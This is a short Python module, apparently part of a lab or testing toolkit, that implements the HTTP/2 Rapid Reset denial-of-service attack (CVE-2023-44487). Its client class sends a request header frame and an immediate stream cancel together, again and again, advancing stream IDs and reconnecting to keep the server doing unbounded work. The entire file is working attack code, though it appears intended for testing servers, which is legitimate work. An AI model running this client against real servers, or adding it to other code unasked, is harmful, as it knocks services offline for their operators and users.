"""Requests that are reset at once (CVE-2023-44487): work that no limit of streams bounds."""

from __future__ import annotations

import struct

from thinktime.lab.hostile.http2 import (
    END_HEADERS,
    END_STREAM,
    HEADERS,
    RST_STREAM,
    STREAM_MAX,
    Http2,
    frame,
    request,
)

CANCEL = struct.pack("!I", 8)


class Client(Http2):
    """Sends a request and its reset together."""

    def act(self) -> None:
        """Send one."""
        if self.stream >= STREAM_MAX:
            self.close()
        if not self.connected():
            return
        head = frame(HEADERS, END_STREAM | END_HEADERS, self.stream, request(self.settings.path))
        if self.send(head + frame(RST_STREAM, 0, self.stream, CANCEL)):
            self.counts["reset"] += 1
            self.stream += 2
